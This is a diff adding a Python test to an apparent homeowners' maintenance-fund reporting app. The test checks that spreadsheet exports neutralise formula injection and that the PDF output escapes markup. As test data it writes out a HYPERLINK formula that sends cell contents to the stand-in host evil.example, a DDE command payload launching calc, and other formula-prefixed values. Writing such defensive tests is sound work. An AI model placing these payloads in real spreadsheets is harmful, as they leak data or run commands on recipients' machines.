@@ -205,3 +205,40 @@ def test_pdf_is_produced_with_the_title(report, clerk):
     assert "二、维修资金收支" in text
     assert "19,800.50" in text  # 收支差额
     assert reports.filename(data, "pdf") == "440304001-2026Q1.pdf"
+
+
+def test_formula_in_a_report_line_comes_out_as_text(report, clerk, staff):
+    """Issue 8 item 8: a report line `=HYPERLINK(...)` must not become a live formula in the owners' download."""
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    services.add_report_line(
+        actor=staff["committee"],
+        report_id=report.pk,
+        section="business_expense",
+        item=attack,
+        counterparty="+1+cmd|' /C calc'!A0",
+        voucher_no="@SUM(1+1)",
+        note="-2+3",
+        amount="1.00",
+    )
+    data = selectors.report_data(actor=clerk, report_id=report.pk)
+    body = reports.quarterly_report_xlsx(data)
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
+    ws = load_workbook(io.BytesIO(body)).active
+    line = next(row for row in ws.iter_rows(min_row=4) if "HYPERLINK" in str(row[1].value))
+    assert [c.data_type for c in line[1:4]] == ["s", "s", "s"]
+    assert line[1].value == "'" + attack
+    assert line[2].value == "'+1+cmd|' /C calc'!A0"
+    assert line[3].value == "'@SUM(1+1)"
+    assert line[5].value == "'-2+3"
+    assert line[4].value == 1  # amounts stay numbers
+    # The PDF escapes markup in user text instead of failing on it.
+    services.add_report_line(
+        actor=staff["committee"], report_id=report.pk, section="receivable", item="<b>未闭合 & <a", amount="2"
+    )
+    assert reports.quarterly_report_pdf(selectors.report_data(actor=clerk, report_id=report.pk)).startswith(
+        b"%PDF"
+    )
